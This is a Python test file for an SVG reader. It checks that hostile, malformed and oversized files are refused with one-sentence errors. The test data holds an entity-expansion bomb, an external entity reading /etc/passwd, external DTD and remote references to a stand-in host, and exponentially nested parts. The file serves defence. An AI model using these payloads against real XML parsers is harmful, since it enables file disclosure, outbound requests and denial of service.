"""Hostile, huge, empty and other SVG files: one sentence each, and soon."""

from __future__ import annotations

import sys
from time import process_time

import pytest

from drills.fold_file import FoldFileError
from drills.svg_file import read_svg
from tests.drills.fold_file.test_sheet_refusals import is_one_clean_sentence
from tests.drills.svg_file.writing import NAMESPACE, svg

LINE = '<line id="a" x2="4" stroke="red"/>'
BOMB = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "evil"}">' for n in range(10))
DOUBLING = "".join(f'<g id="g{n}"><use href="#g{n - 1}"/><use href="#g{n - 1}"/></g>' for n in range(1, 40))


def entities(declared: str, body: str = "&e9;") -> bytes:
    """Return an SVG that declares entities."""
    return f"<!DOCTYPE svg [{declared}]><svg {NAMESPACE}><text>{body}</text>{LINE}</svg>".encode()


REFUSED = [
    (entities(BOMB), "defines entities"),
    (entities('<!ENTITY e9 SYSTEM "file:///etc/passwd">'), "defines entities"),
    (entities('<!ENTITY % e SYSTEM "http://evil.invalid/x.dtd"> %e;', ""), "defines entities"),
    (svg('<use href="http://evil.invalid/a.svg#a" stroke="red"/>'), "takes a part from another file"),
    (svg('<use href="other.svg#a"/>'), "takes a part from another file"),
    (svg('<use href="#b"/>'), "uses a part that it does not have"),
    (svg('<g id="b"><use href="#b"/></g>'), "uses its parts inside themselves"),
    (svg(""), "draws no straight line"),
    (svg('<line x2="3"/>'), "draws no straight line"),
    (svg(f'<g display="none">{LINE}</g>'), "draws no straight line"),
    (svg("<g>" * 10_000 + "</g>" * 10_000), "too many elements"),
    (svg('<path stroke="red" d="L"/>'), "a path that cannot be read"),
    (svg('<path stroke="red" d="M 1 2 evil"/>'), "a path that cannot be read"),
    (svg('<path stroke="red" d="1 2 3"/>'), "a path that cannot be read"),
    (svg('<polygon stroke="red" points="1,2 evil"/>'), "numbers that cannot be read"),
    (svg('<line stroke="red" x2="1e99"/>'), "too long or too large"),
    (svg('<line stroke="red" x2="1..2"/>'), "a length that cannot be read"),
    (svg(f'<g transform="evil(3)">{LINE}</g>'), "a transform that cannot be read"),
    (svg(f'<g transform="rotate(1 2)">{LINE}</g>'), "a transform that cannot be read"),
    (svg("<g>")[:-3], "not well-formed"),
    (b"<svg", "not well-formed"),
    (b'<?xml version="1.0" encoding="evil"?><svg/>', "not well-formed"),
    (b"<html><svg/></html>", "XML but no SVG"),
]
HUGE = [
    (svg(f'<g id="g0">{LINE}</g>{DOUBLING}'), "uses its parts"),
    (svg('<path stroke="red" d="M0 0' + "L1 1" * 1_000_000 + '"/>'), "more than 150000 lines"),
    (svg('<polyline stroke="red" points="' + "1,2 " * 1_000_000 + '"/>'), "too long a list of numbers"),
    (svg("<g/>" * 1_000_000), "too many elements"),
]


@pytest.mark.parametrize(("text", "words"), REFUSED, ids=[words for _, words in REFUSED])
def test_each_is_refused_in_one_sentence(text: bytes, words: str) -> None:
    """Nothing of the file is repeated."""
    with pytest.raises(FoldFileError, match=words) as refused:
        read_svg(text)
    assert is_one_clean_sentence(str(refused.value))


@pytest.mark.long
@pytest.mark.parametrize(("text", "words"), HUGE, ids=[words for _, words in HUGE])
def test_what_is_huge_is_refused_in_bounded_time(text: bytes, words: str) -> None:
    """Millions of segments, and parts used 2 ** 39 times, within ten seconds of processor time."""
    start = process_time()
    with pytest.raises(FoldFileError, match=words) as refused:
        read_svg(text)
    assert process_time() - start < 10
    assert is_one_clean_sentence(str(refused.value))


def test_a_document_type_without_entities_is_no_harm() -> None:
    """Many programs write that of SVG 1.1; it is not fetched."""
    head = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.invalid/svg11.dtd">'
    assert len(read_svg(f"{head}<svg {NAMESPACE}>{LINE}</svg>".encode()).lines) == 1


def test_without_the_extra_it_is_said_how_to_install_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """The packages are optional."""
    monkeypatch.setitem(sys.modules, "defusedxml", None)
    with pytest.raises(FoldFileError, match=r"pip install \"slantwise\[svg\]\""):
        read_svg(svg(LINE))
